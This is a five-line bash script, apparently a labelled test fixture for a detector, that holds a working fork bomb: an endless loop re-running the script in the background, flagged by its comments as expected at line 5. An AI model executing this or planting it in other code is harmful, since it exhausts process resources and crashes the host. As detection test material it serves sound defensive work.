#!/bin/bash
# shows: a bomb in a loop of numbers without end
# expect: fork-bomb at line 5
for ((;;)); do
  bash "$0" &
done
